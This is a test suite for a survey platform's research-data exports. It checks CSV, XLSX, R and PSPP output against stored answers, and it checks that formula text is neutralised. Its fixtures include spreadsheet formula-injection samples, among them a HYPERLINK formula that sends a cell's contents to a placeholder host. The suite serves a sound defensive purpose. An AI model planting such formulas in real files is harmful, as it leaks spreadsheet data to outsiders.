import { spawnSync } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ProjectRole } from '../accounts/project-role.js';
import {
  ConstructKind,
  ItemType,
  RespondentRole,
  ShowIfOperator,
  type InstrumentDefinition,
  type Item,
} from '../instruments/definition.types.js';
import type { Project } from '../projects/project.entity.js';
import { isShown, type StoredAnswer } from '../responses/answer.rules.js';
import type { AnswerValue } from '../responses/answer.rules.js';
import { SurveyService } from '../responses/survey.service.js';
import { makeOpenRound, makeProject, makeSession, makeUser } from '../test/factories.js';
import { startTestServer, type TestServer } from '../test/server.js';
import { Round } from '../rounds/round.entity.js';

/**
 * The research files as R and PSPP read them (issue 16): downloaded through the HTTP route, read by the real tools
 * with the scripts Verdi writes, and compared with the database value by value.
 */

const TOOLS = ['Rscript', 'pspp'] as const;
const missingTools = TOOLS.filter((tool) => spawnSync('which', [tool]).status !== 0);
const skipTools = process.env.VERDI_SKIP_RESEARCH_TOOLS === '1' && missingTools.length > 0;

function requireTools(): void {
  if (missingTools.length > 0) {
    throw new Error(
      `These tests run ${missingTools.join(' and ')}, which ${missingTools.length > 1 ? 'are' : 'is'} not installed. ` +
        'Install R with haven (Debian: r-base-core r-cran-haven) and PSPP (pspp), or set VERDI_SKIP_RESEARCH_TOOLS=1 to skip them.',
    );
  }
}

const ALL = [RespondentRole.SERVICE_USER, RespondentRole.PROFESSIONAL, RespondentRole.CONSULTANT];
const base = { required: false, reverseScored: false } as const;
const likert = (key: string, extra: Partial<Item> = {}): Item => ({
  ...base,
  key,
  type: ItemType.LIKERT,
  construct: 'hope',
  roles: ALL,
  prompt: { nb: `Påstand ${key}`, en: `Statement ${key}` },
  scale: 'agree04',
  ...extra,
});

/** A 0–4 scale with "Vet ikke", a reverse item, a show-if on a number and on a choice, an item for one role. */
function definition(): InstrumentDefinition {
  return {
    scales: [
      {
        key: 'agree04',
        points: [0, 1, 2, 3, 4].map((value) => ({
          value,
          label: { nb: `Nivå ${value}`, en: `Level ${value}` },
        })),
        notApplicable: { nb: 'Vet ikke / ikke aktuelt', en: 'Don’t know' },
      },
    ],
    constructs: [{ key: 'hope', kind: ConstructKind.VALUE, label: { nb: 'Håp', en: 'Hope' } }],
    sections: [
      {
        key: 's1',
        title: { nb: 'Alt', en: 'All' },
        items: [
          {
            ...base,
            key: 'contact',
            type: ItemType.YES_NO,
            roles: ALL,
            prompt: { nb: 'Kontakt?', en: 'Contact?' },
          },
          {
            ...base,
            key: 'workplace',
            type: ItemType.SINGLE_CHOICE,
            roles: [RespondentRole.PROFESSIONAL, RespondentRole.CONSULTANT],
            prompt: { nb: 'Hvor jobber du?', en: 'Where?' },
            options: [
              { key: 'ambulant', label: { nb: 'Ambulant team' } },
              { key: 'housing', label: { nb: 'Bolig' } },
            ],
          },
          {
            ...base,
            key: 'hours',
            type: ItemType.NUMBER,
            roles: ALL,
            prompt: { nb: 'Timer per uke', en: 'Hours a week' },
            min: 0,
            max: 100,
          },
          likert('hope_1'),
          likert('hope_2', { reverseScored: true }),
          likert('follow', {
            construct: null,
            showIf: { item: 'hope_1', op: ShowIfOperator.GREATER_THAN, values: ['2'] },
          }),
          {
            ...base,
            key: 'services',
            type: ItemType.MULTI_CHOICE,
            roles: ALL,
            prompt: { nb: 'Tjenester', en: 'Services' },
            options: [
              { key: 'housing', label: { nb: 'Bolig' } },
              { key: 'work', label: { nb: 'Arbeid' } },
            ],
            showIf: { item: 'contact', op: ShowIfOperator.EQUALS, values: ['1'] },
          },
          {
            ...base,
            key: 'comment',
            type: ItemType.TEXT,
            roles: ALL,
            prompt: { nb: 'Kommentar', en: 'Comment' },
          },
          likert('staff_only', { construct: null, roles: [RespondentRole.PROFESSIONAL] }),
        ],
      },
    ],
  };
}

interface Submission {
  round: 0 | 1;
  role: RespondentRole;
  answers: AnswerValue[];
}

/** Everything a participant may type that breaks a file, spread over two rounds and three roles. */
const SUBMISSIONS: Submission[] = [
  {
    round: 0,
    role: RespondentRole.CONSULTANT,
    answers: [
      { item: 'contact', number: 1 },
      { item: 'workplace', choices: ['housing'] },
      { item: 'hours', number: 7.25 },
      { item: 'hope_1', number: 4 },
      { item: 'hope_2', number: 0 },
      { item: 'follow', number: 3 },
      { item: 'services', choices: ['housing', 'work'] },
      { item: 'comment', text: 'Linje 1\nLinje 2 med "sitat", komma og 😀' },
    ],
  },
  {
    round: 0,
    role: RespondentRole.CONSULTANT,
    answers: [
      { item: 'contact', number: 0 },
      { item: 'hope_1', number: 1 },
      { item: 'hope_2', notApplicable: true },
      { item: 'comment', text: '=1+1' },
    ],
  },
  {
    round: 0,
    role: RespondentRole.SERVICE_USER,
    answers: [
      { item: 'contact', number: 1 },
      { item: 'hours', number: 0.5 },
      { item: 'hope_1', number: 3 },
      { item: 'hope_2', number: 2 },
      { item: 'services', choices: ['work'] },
      { item: 'comment', text: 'Windows\r\nlinje; "x", 100%0A' },
    ],
  },
  {
    round: 0,
    role: RespondentRole.PROFESSIONAL,
    answers: [
      { item: 'contact', number: 1 },
      { item: 'hope_1', notApplicable: true },
      { item: 'hope_2', number: 4 },
      { item: 'services', choices: [] },
      { item: 'comment', text: '-8' },
      { item: 'staff_only', number: 2 },
    ],
  },
  {
    round: 1,
    role: RespondentRole.CONSULTANT,
    answers: [
      { item: 'contact', number: 1 },
      { item: 'hope_1', number: 2 },
      { item: 'comment', text: "@SUM(A1) og 'sitat" },
    ],
  },
  {
    round: 1,
    role: RespondentRole.SERVICE_USER,
    answers: [
      { item: 'hours', number: 12.125 },
      { item: 'comment', text: `'=HYPERLINK("http://x.invalid/"&B2,"Klikk")` },
    ],
  },
  {
    round: 1,
    role: RespondentRole.PROFESSIONAL,
    answers: [{ item: 'comment', text: '+47 12 34 56 78' }],
  },
];

let server: TestServer;
let project: Project;
let session: string;
let dir: string;
/** Round labels in the order the rounds opened, which is not the alphabetical order. */
const ROUNDS = ['Ved oppstart', 'Etter 12 mnd, "oppfølging" – 100 % av \'B\''];

beforeAll(async () => {
  server = await startTestServer();
  const em = server.db.orm.em.fork();
  project = await makeProject(em, 'Verktøyprosjekt');
  const researcher = await makeUser(em, { roles: [[project, ProjectRole.RESEARCHER]] });
  session = await makeSession(em, researcher);
  const rounds = [];
  for (const [index, label] of ROUNDS.entries()) {
    const round = await makeOpenRound(em, project, researcher, { definition: definition(), label });
    await em.nativeUpdate(
      Round,
      { id: round.roundId },
      { opensAt: new Date(Date.now() - (10 - index) * 86_400_000), linkage: true },
    );
    rounds.push(round);
  }
  for (const [index, submission] of SUBMISSIONS.entries()) {
    await new SurveyService(server.db.orm.em.fork()).submit({
      token: rounds[submission.round]!.links[submission.role]!,
      clientSubmissionId: randomUUID(),
      answers: submission.answers,
      language: 'nb',
      consent: true,
      linkageCode: index % 2 ? '00123' : null,
    });
  }
  dir = mkdtempSync(join(tmpdir(), 'verdi-export-tools-'));
});
afterAll(async () => {
  await server?.stop();
  // VERDI_KEEP_EXPORT_FILES=1 keeps the files to look at with the tools by hand.
  if (dir && process.env.VERDI_KEEP_EXPORT_FILES !== '1') rmSync(dir, { recursive: true, force: true });
  else if (dir) console.log(`export files kept in ${dir}`);
});

async function download(file: string, query = ''): Promise<{ name: string; body: Buffer }> {
  const response = await fetch(`${server.url}/exports/${project.id}/${file}${query}`, {
    headers: { cookie: `verdi_session=${session}` },
  });
  if (response.status !== 200) throw new Error(`${file}: HTTP ${response.status} ${await response.text()}`);
  const name = /filename="([^"]+)"/.exec(response.headers.get('content-disposition') ?? '')![1]!;
  return { name, body: Buffer.from(await response.arrayBuffer()) };
}

/** Downloads the files into the temp dir under the names the server gives, as a browser would. */
async function downloadAll(files: string[], query = ''): Promise<Record<string, string>> {
  const names: Record<string, string> = {};
  for (const file of files) {
    const { name, body } = await download(file, query);
    writeFileSync(join(dir, name), body);
    names[file] = name;
  }
  return names;
}

function run(command: string, args: string[]): string {
  const result = spawnSync(command, args, {
    cwd: dir,
    encoding: 'utf8',
    env: { ...process.env, LANG: 'C.UTF-8' },
  });
  if (result.status !== 0) {
    throw new Error(
      `${command} ${args.join(' ')} failed (${result.status}):\n${result.stdout}\n${result.stderr}`,
    );
  }
  return `${result.stdout}\n${result.stderr}`;
}

/** What the database holds, per exported response in export order: round order, then response id. */
interface Stored {
  round: string;
  role: RespondentRole;
  answers: Map<string, StoredAnswer>;
}

async function storedResponses(): Promise<Stored[]> {
  const rows = await server.db.orm.em.getConnection().execute<
    {
      id: string;
      label: string;
      role: RespondentRole;
      item_key: string | null;
      number: number | null;
      text: string | null;
      choices: string[] | null;
      not_applicable: boolean | null;
    }[]
  >(
    `select r.id, w.label, r.role::text as role, a.item_key, a.number, a.text, a.choices, a.not_applicable
       from responses r join rounds w on w.id = r.round_id left join answers a on a.response_id = r.id
      where w.project_id = ? and r.status = 'SUBMITTED' order by w.opens_at, r.id`,
    [project.id],
  );
  const byId = new Map<string, Stored>();
  for (const row of rows) {
    if (!byId.has(row.id)) byId.set(row.id, { round: row.label, role: row.role, answers: new Map() });
    if (row.item_key) {
      byId.get(row.id)!.answers.set(row.item_key, {
        itemKey: row.item_key,
        number: row.number === null ? null : Number(row.number),
        text: row.text,
        choices: row.choices,
        notApplicable: !!row.not_applicable,
      });
    }
  }
  return [...byId.values()];
}

type Expected = { value: number | string | null; na: boolean; notShown: boolean };

/** The expected value of each variable, decided from the stored answers with the survey's own show-if rule. */
function expectedOf(stored: Stored, variable: string): Expected {
  const [itemKey, option] = variable.split('__') as [string, string | undefined];
  const item = definition()
    .sections.flatMap((s) => s.items)
    .find((i) => i.key === itemKey)!;
  const answer = stored.answers.get(itemKey);
  if (!answer) {
    const shown = item.roles.includes(stored.role) && isShown(item, stored.answers);
    return { value: null, na: false, notShown: !shown };
  }
  if (answer.notApplicable) return { value: null, na: true, notShown: false };
  if (option)
    return {
      value: answer.choices!.length === 0 ? null : answer.choices!.includes(option) ? 1 : 0,
      na: false,
      notShown: false,
    };
  if (answer.choices) return { value: answer.choices[0] ?? null, na: false, notShown: false };
  return { value: answer.number ?? answer.text, na: false, notShown: false };
}

const VARIABLES = [
  'contact',
  'workplace',
  'hours',
  'hope_1',
  'hope_2',
  'follow',
  'services__housing',
  'services__work',
  'comment',
  'staff_only',
];
const TEXTUAL = new Set(['workplace', 'comment']);

/** R's reading of the data after `source("read-data.R")`, one line per column: name, class, levels, cells. */
const R_DUMP = `
hex <- function(s) paste(as.character(charToRaw(enc2utf8(s))), collapse = "")
out <- file("r-read.tsv", "w", encoding = "UTF-8")
for (n in names(data)) {
  x <- data[[n]]
  cells <- vapply(seq_along(x), function(i) {
    v <- x[i]
    if (is.na(v)) "NA" else if (is.factor(x)) paste0("S", hex(as.character(v)))
    else if (is.character(v)) paste0("S", hex(v)) else if (is.logical(v)) as.character(v)
    else if (inherits(x, "Date")) format(v) else format(v, digits = 17)
  }, "")
  levels <- if (is.factor(x)) paste(vapply(levels(x), hex, ""), collapse = ",") else ""
  writeLines(paste(c(n, paste(class(x), collapse = "/"), levels, cells), collapse = "\\t"), out)
}
close(out)
`;

interface RColumn {
  class: string;
  levels: string[];
  cells: (string | number | boolean | null)[];
}

const unhex = (hex: string) => Buffer.from(hex, 'hex').toString('utf8');

function readR(script: string): Map<string, RColumn> {
  writeFileSync(join(dir, 'dump.R'), `source(${JSON.stringify(script)}, encoding = "UTF-8")\n${R_DUMP}`);
  run('Rscript', ['--vanilla', 'dump.R']);
  const columns = new Map<string, RColumn>();
  for (const line of readFileSync(join(dir, 'r-read.tsv'), 'utf8').trimEnd().split('\n')) {
    const [name, cls, levels, ...cells] = line.split('\t');
    columns.set(name!, {
      class: cls!,
      levels: levels ? levels.split(',').map(unhex) : [],
      cells: cells.map((cell) =>
        cell === 'NA'
          ? null
          : cell.startsWith('S')
            ? unhex(cell.slice(1))
            : cell === 'TRUE' || cell === 'FALSE'
              ? cell === 'TRUE'
              : /^\d{4}-\d{2}-\d{2}$/.test(cell)
                ? cell
                : Number(cell),
      ),
    });
  }
  return columns;
}

describe('research files read by the real tools', () => {
  it.skipIf(skipTools)(
    'R: read-data.R reads the wide CSV value for value as the database holds it',
    async () => {
      requireTools();
      const names = await downloadAll(['data-wide.csv', 'read-data.R']);
      const script = readFileSync(join(dir, names['read-data.R']!), 'utf8');
      expect(script).toContain(`read.csv("${names['data-wide.csv']}"`);
      const stored = await storedResponses();
      const columns = readR(names['read-data.R']!);
      expect(columns.get('response')!.cells).toEqual(stored.map((_, i) => i + 1));
      const round = columns.get('round')!;
      expect(round.class).toBe('ordered/factor');
      expect(round.levels).toEqual(ROUNDS);
      expect(round.cells).toEqual(stored.map((s) => s.round));
      expect(columns.get('role')!.class).toBe('factor');
      expect(columns.get('role')!.cells).toEqual(stored.map((s) => s.role));
      expect(columns.get('linkage')!.class).toBe('character');
      expect(columns.get('submitted_on')!.class).toBe('Date');
      let compared = 0;
      for (const variable of VARIABLES) {
        const item = variable.split('__')[0]!;
        const column = columns.get(variable)!;
        expect(column.class, variable).toBe(TEXTUAL.has(variable) ? 'character' : 'numeric');
        stored.forEach((response, i) => {
          const expected = expectedOf(response, variable);
          expect(column.cells[i], `${variable} of response ${i + 1}`).toEqual(crlfAsLf(expected.value));
          expect(columns.get(`${item}_not_shown`)!.cells[i], `${item}_not_shown of response ${i + 1}`).toBe(
            expected.notShown,
          );
          if (columns.has(`${item}_na`)) {
            expect(columns.get(`${item}_na`)!.cells[i], `${item}_na of response ${i + 1}`).toBe(expected.na);
          }
          compared++;
        });
      }
      expect(compared).toBe(VARIABLES.length * SUBMISSIONS.length);
      // The flags are never NA, so that sum() counts them.
      for (const [name, column] of columns) {
        if (name.endsWith('_na') || name.endsWith('_not_shown'))
          expect(column.cells, name).not.toContain(null);
      }
      expect(columns.get('comment_not_shown')!.cells.filter(Boolean)).toHaveLength(0);
      expect(columns.get('workplace_not_shown')!.cells.filter(Boolean)).toHaveLength(2);
      expect(columns.get('follow_not_shown')!.cells.filter(Boolean).length).toBeGreaterThan(0);
      expect(columns.get('comment')!.cells).toContain('-8');
      expect(columns.get('hope_1_f')!.class).toBe('ordered/factor');
      expect(columns.get('workplace_f')!.levels).toEqual(['Ambulant team', 'Bolig']);
    },
  );

  it.skipIf(skipTools)(
    'R: a linkage pseudonym that looks like a number stays text with its zeros',
    async () => {
      requireTools();
      const names = await downloadAll(['data-wide.csv', 'read-data.R']);
      const csv = readFileSync(join(dir, names['data-wide.csv']!), 'utf8');
      const rows: string[][] = parse(csv);
      const linkage = rows[0]!.indexOf('linkage');
      const pseudonyms = [
        ...new Set(
          rows
            .slice(1)
            .map((r) => r[linkage]!)
            .filter((p) => p !== ''),
        ),
      ];
      expect(pseudonyms.length).toBeGreaterThan(0);
      // Put pseudonyms of digits only in place of the hex ones, as one in a few thousand downloads has.
      let digits = csv;
      pseudonyms.forEach((p, i) => (digits = digits.replaceAll(p, `00123${String(i).padStart(11, '0')}`)));
      writeFileSync(join(dir, names['data-wide.csv']!), digits);
      const columns = readR(names['read-data.R']!);
      expect(columns.get('linkage')!.class).toBe('character');
      expect(columns.get('linkage')!.cells.filter((c) => c !== null)[0]).toMatch(/^00123\d{11}$/);
    },
  );

  it.skipIf(skipTools)(
    'PSPP: read-data.sps gives one case per response with every value in place, and saves a .sav',
    async () => {
      requireTools();
      const names = await downloadAll(['data-spss.csv', 'read-data.sps']);
      const syntax = readFileSync(join(dir, names['read-data.sps']!), 'utf8');
      expect(syntax).toContain(`/FILE='${names['data-spss.csv']}'`);
      writeFileSync(
        join(dir, 'wrap.sps'),
        `INCLUDE FILE='${names['read-data.sps']}'.\nSAVE TRANSLATE /OUTFILE='pspp-read.csv' /TYPE=CSV /REPLACE /FIELDNAMES /CELLS=VALUES.\nDISPLAY DICTIONARY.\n`,
      );
      const output = run('pspp', ['-O', 'format=txt', '-o', 'pspp-output.txt', 'wrap.sps']);
      const listing = readFileSync(join(dir, 'pspp-output.txt'), 'utf8');
      // PSPP exits 0 after warnings, so the listing is read for them.
      expect(`${output}\n${listing}`).not.toMatch(/warning|error/i);
      const rows: Record<string, string>[] = parse(readFileSync(join(dir, 'pspp-read.csv'), 'utf8'), {
        columns: true,
        relax_column_count: false,
      });
      const stored = await storedResponses();
      expect(rows).toHaveLength(stored.length);
      expect(rows.map((r) => r.round)).toEqual(stored.map((s) => String(ROUNDS.indexOf(s.round) + 1)));
      expect(rows.map((r) => r.role)).toEqual(stored.map((s) => s.role));
      let compared = 0;
      for (const variable of VARIABLES) {
        stored.forEach((response, i) => {
          const expected = expectedOf(response, variable);
          const want = expected.na
            ? '-7'
            : expected.notShown
              ? '-8'
              : expected.value === null
                ? ''
                : variable === 'workplace'
                  ? String(['ambulant', 'housing'].indexOf(String(expected.value)) + 1)
                  : TEXTUAL.has(variable)
                    ? crlfAsLf(protect(String(expected.value)))
                    : String(expected.value);
          // PSPP writes a system-missing number as a space, and a CR LF in a text as LF (the .sav keeps CR LF).
          const got = rows[i]![variable]!.trim() === '' ? '' : rows[i]![variable];
          expect(got, `${variable} of response ${i + 1}`).toBe(want);
          compared++;
        });
      }
      expect(compared).toBe(VARIABLES.length * SUBMISSIONS.length);
      expect(listing).toMatch(/hope_1\s.*Ordinal/);
      expect(listing).toMatch(/hours\s.*Scale/);
      expect(listing).toMatch(/workplace\s.*Nominal/);
      expect(listing).toContain('Ikke vist');
      expect(
        readFileSync(join(dir, names['read-data.sps']!.replace('read-data.sps', 'read-data.sav'))).length,
      ).toBeGreaterThan(0);
    },
  );

  it.skipIf(skipTools)('haven reads the .sav the syntax saved with labels and missing values', async () => {
    requireTools();
    const names = await downloadAll(['data-spss.csv', 'read-data.sps']);
    run('pspp', [names['read-data.sps']!]);
    const sav = names['read-data.sps']!.replace('read-data.sps', 'read-data.sav');
    writeFileSync(
      join(dir, 'sav.R'),
      `library(haven)
d <- read_sav(${JSON.stringify(sav)}, user_na = TRUE)
cat(nrow(d), "\\n")
cat(names(attr(d$workplace, "labels")), sep = "|"); cat("\\n")
cat(attr(d$hope_1, "na_values"), sep = "|"); cat("\\n")
cat(names(attr(d$round, "labels")), sep = "|"); cat("\\n")
for (x in d$comment) cat(paste(as.character(charToRaw(x)), collapse = ""), "\\n")
cat(class(d$submitted_on), "\\n")
`,
    );
    const lines = run('Rscript', ['--vanilla', 'sav.R']).split('\n');
    expect(lines[0]!.trim()).toBe(String(SUBMISSIONS.length));
    expect(lines[1]).toBe('Ikke vist|Ambulant team|Bolig');
    expect(lines[2]).toBe('-7|-8');
    expect(lines[3]).toBe(ROUNDS.join('|'));
    const stored = await storedResponses();
    // Free text exactly as stored, CR LF included, with the spreadsheet protection the codebook documents.
    expect(
      lines.slice(4, 4 + stored.length).map((hex) => Buffer.from(hex.trim(), 'hex').toString('utf8')),
    ).toEqual(
      stored.map((response) => {
        const expected = expectedOf(response, 'comment');
        return expected.notShown ? '-8' : expected.value === null ? '' : protect(String(expected.value));
      }),
    );
    expect(lines[4 + stored.length]!.trim()).toBe('Date');
  });

  it('XLSX: numbers as numbers, dates as dates, empty cells empty, texts protected as in the CSV', async () => {
    const { body } = await download('data.xlsx');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(body as never);
    const data = workbook.getWorksheet('data')!;
    const header = (data.getRow(1).values as unknown[]).slice(1) as string[];
    const col = (name: string) => header.indexOf(name) + 1;
    const stored = await storedResponses();
    expect(data.rowCount).toBe(stored.length + 1);
    stored.forEach((response, i) => {
      const row = data.getRow(i + 2);
      const submitted = row.getCell(col('submitted_on'));
      expect(submitted.value).toBeInstanceOf(Date);
      expect(submitted.numFmt).toBe('yyyy-mm-dd');
      for (const variable of VARIABLES) {
        const expected = expectedOf(response, variable);
        const cell = row.getCell(col(variable)).value;
        const want = expected.na
          ? -7
          : expected.notShown
            ? TEXTUAL.has(variable)
              ? '-8'
              : -8
            : expected.value === null
              ? null
              : TEXTUAL.has(variable)
                ? crlfAsLf(protect(String(expected.value)))
                : expected.value;
        expect(cell, `${variable} of response ${i + 1}`).toEqual(want);
      }
    });
    data.eachRow((row) => row.eachCell((cell) => expect(cell.value).not.toBe('')));
    for (const sheet of ['codebook', 'rounds', 'constructs'])
      expect(workbook.getWorksheet(sheet)).toBeTruthy();
    const rounds = workbook.getWorksheet('rounds')!;
    expect([rounds.getRow(2).getCell(2).value, rounds.getRow(3).getCell(2).value]).toEqual(ROUNDS);
  });
});

/** R's read.csv and every XML reader of an XLSX (Excel's too) read a CR LF line break inside a text as LF. */
function crlfAsLf<T>(value: T): T {
  return (typeof value === 'string' ? value.replaceAll('\r\n', '\n') : value) as T;
}

/** The spreadsheet protection the files apply to a text (export.sql.ts), written out again for the comparison. */
function protect(text: string): string {
  return /^[=+\-@\t\r']/.test(text) ? `'${text}` : text;
}

describe('research files: protection, filters, names, scores and codebook', () => {
  it('CSV: a text a spreadsheet would run gets a quote in front, in the wide and the long file alike', async () => {
    const wide = (await download('data-wide.csv')).body.toString('utf8');
    const long = (await download('data-long.csv')).body.toString('utf8');
    for (const text of ['=1+1', '-8', "@SUM(A1) og 'sitat", '+47 12 34 56 78']) {
      expect(wide).toContain(`,'${text}`);
      expect(long).toContain(`,'${text}`);
      // The code -8 is written bare; the typed text "-8" must not be.
      if (text !== '-8') expect(wide).not.toMatch(new RegExp(`,${text.replace(/[+()]/g, '\\$&')}`));
    }
    // A text that begins with a quote gets a second one, so that the first can always be taken off again.
    expect(wide).toContain(`"''=HYPERLINK(""http://x.invalid/""&B2,""Klikk"")"`);
    const rows: Record<string, string>[] = parse(wide, { columns: true });
    const longRows: Record<string, string>[] = parse(long, { columns: true });
    for (const row of longRows.filter((r) => r.item === 'comment')) {
      expect(rows.find((r) => r.response === row.response)!.comment).toBe(row.value);
    }
    // Codes are numbers and stay as they are; a typed "-8" is text and does not.
    expect(rows.map((r) => r.comment)).toContain("'-8");
    expect(rows.map((r) => r.workplace)).toContain('-8');
    expect(rows.map((r) => r.hope_2)).toContain('-7');
    expect(rows.map((r) => r.hours)).toEqual(expect.arrayContaining(['7.25', '0.5', '12.125']));
  });

  it('filters by role and day of submission, numbering the rows afresh, and names bad values', async () => {
    const rowsOf = async (query: string) =>
      parse((await download('data-wide.csv', query)).body.toString('utf8'), { columns: true }) as Record<
        string,
        string
      >[];
    const users = await rowsOf('?roles=SERVICE_USER');
    expect(users.map((r) => r.role)).toEqual(['SERVICE_USER', 'SERVICE_USER']);
    expect(users.map((r) => r.response)).toEqual(['1', '2']);
    const two = await rowsOf('?roles=PROFESSIONAL,CONSULTANT');
    expect(two).toHaveLength(5);
    const today = two[0]!.submitted_on!;
    const day = (offset: number) =>
      new Date(Date.parse(today) + offset * 86_400_000).toISOString().slice(0, 10);
    expect(await rowsOf(`?from=${today}&to=${today}`)).toHaveLength(SUBMISSIONS.length);
    expect(await rowsOf(`?from=${day(1)}`)).toHaveLength(0);
    expect(await rowsOf(`?to=${day(-1)}`)).toHaveLength(0);
    const scores = (await download('scores.csv', '?roles=SERVICE_USER')).body.toString('utf8');
    expect(parse(scores, { columns: true })).toHaveLength(2);

    const refused = async (query: string) => {
      const response = await fetch(`${server.url}/exports/${project.id}/data-wide.csv${query}`, {
        headers: { cookie: `verdi_session=${session}` },
      });
      expect(response.status, query).toBe(400);
      return ((await response.json()) as { message: string }).message;
    };
    expect(await refused('?roles=SERVICE_USER,ADMIN')).toBe(
      'Not a respondent role: "ADMIN"; choose from SERVICE_USER, PROFESSIONAL, CONSULTANT',
    );
    expect(await refused('?from=2026-02-30')).toContain('from=2026-02-30 is not a date');
    expect(await refused('?to=31.12.2026')).toContain('to=31.12.2026 is not a date; give it as YYYY-MM-DD');
    expect(await refused('?from=2026-03-02&to=2026-03-01')).toBe('from=2026-03-02 is after to=2026-03-01');
    expect(await refused('?roles=CONSULTANT&roles=PROFESSIONAL')).toContain('Give roles once');
  });

  it('names every file of one selection alike on any day, and a script names its own data file', async () => {
    const rounds = await server.db.orm.em.fork().find(Round, { project: project.id });
    const all = (await download('data-wide.csv')).name;
    expect(all).toMatch(new RegExp(`^verdi_${project.slug}_[0-9a-f]{8}_data-wide\\.csv$`));
    expect(all).not.toMatch(/\d{4}-\d{2}-\d{2}/);
    expect((await download('data-wide.csv', `?rounds=${rounds.map((r) => r.id).join(',')}`)).name).toBe(all);
    expect((await download('data-wide.csv')).name).toBe(all);
    const users = (await download('data-wide.csv', '?roles=SERVICE_USER')).name;
    expect(users).not.toBe(all);
    const script = await download('read-data.R', '?roles=SERVICE_USER');
    expect(script.name.replace('read-data.R', 'data-wide.csv')).toBe(users);
    expect(script.body.toString('utf8')).toContain(`"${users}"`);
    expect((await download('data-wide.csv', `?rounds=${rounds[0]!.id}`)).name).not.toBe(all);
  });

  it('scores.csv: each response’s stored construct scores, numbered like the data files', async () => {
    const rows: Record<string, string>[] = parse((await download('scores.csv')).body.toString('utf8'), {
      columns: true,
    });
    const wide: Record<string, string>[] = parse((await download('data-wide.csv')).body.toString('utf8'), {
      columns: true,
    });
    expect(Object.keys(rows[0]!)).toEqual([
      'response',
      'round',
      'role',
      'submitted_on',
      'language',
      'linkage',
      'hope_score',
      'hope_answered',
      'hope_shown',
    ]);
    const stored = await server.db.orm.em
      .getConnection()
      .execute<{ score: number | null; answered: number | null; shown: number | null }[]>(
        `select s.score, s.answered_items as answered, s.shown_items as shown
         from responses r join rounds w on w.id = r.round_id
         left join construct_scores s on s.response_id = r.id and s.construct_key = 'hope'
        where w.project_id = ? and r.status = 'SUBMITTED' order by w.opens_at, r.id`,
        [project.id],
      );
    expect(rows.map((r) => [r.response, r.round, r.role])).toEqual(
      wide.map((r) => [r.response, r.round, r.role]),
    );
    expect(rows.map((r) => [r.hope_score, r.hope_answered, r.hope_shown])).toEqual(
      stored.map((s) =>
        s.score === null ? ['', '', ''] : [String(Number(s.score)), String(s.answered), String(s.shown)],
      ),
    );
    // On the 0–4 scale the reverse item counts as 4 − answer: 4 and 0 make a mean of 4.
    const first = wide.findIndex((r) => r.hope_1 === '4' && r.hope_2 === '0');
    expect(rows[first]).toMatchObject({ hope_score: '4', hope_answered: '2', hope_shown: '2' });
  });

  it('codebook: bounds, show-if, required, construct, scoring, codes and the instrument version of each round', async () => {
    const rows: Record<string, string>[] = parse((await download('codebook.csv')).body.toString('utf8'), {
      columns: true,
    });
    expect(rows.find((r) => r.variable === 'hope_2')).toMatchObject({
      scale_min: '0',
      scale_max: '4',
      reverse_scored: 'yes',
      scoring: 'reverse-scored in hope: 4 − answer',
      construct_label_nb: 'Håp',
      not_applicable_code: '-7',
      not_shown_code: '-8',
      skipped: 'empty cell',
    });
    expect(rows.find((r) => r.variable === 'follow')!.show_if).toBe('hope_1 > 2');
    expect(rows.find((r) => r.variable === 'services__work')!.show_if).toBe('contact = 1');
    expect(rows.find((r) => r.variable === 'hours')).toMatchObject({ scale_min: '0', scale_max: '100' });
    expect(rows.find((r) => r.variable === 'comment')!.not_applicable_code).toBe('');
    const json = JSON.parse((await download('codebook.json')).body.toString('utf8')) as {
      rounds: { label: string; order: number; instrumentVersion: number }[];
      notShownCode: number;
      constructs: { key: string; scoreColumns: string[] }[];
      scoring: string;
      formulaProtection: string;
    };
    expect(json.rounds.map((r) => [r.order, r.label, r.instrumentVersion])).toEqual([
      [1, ROUNDS[0], 1],
      [2, ROUNDS[1], 1],
    ]);
    expect(json.notShownCode).toBe(-8);
    expect(json.constructs[0]!.scoreColumns).toEqual(['hope_score', 'hope_answered', 'hope_shown']);
    expect(json.scoring).toContain('scale minimum + scale maximum − answer');
    expect(json.formulaProtection).toContain("'");
  });
});
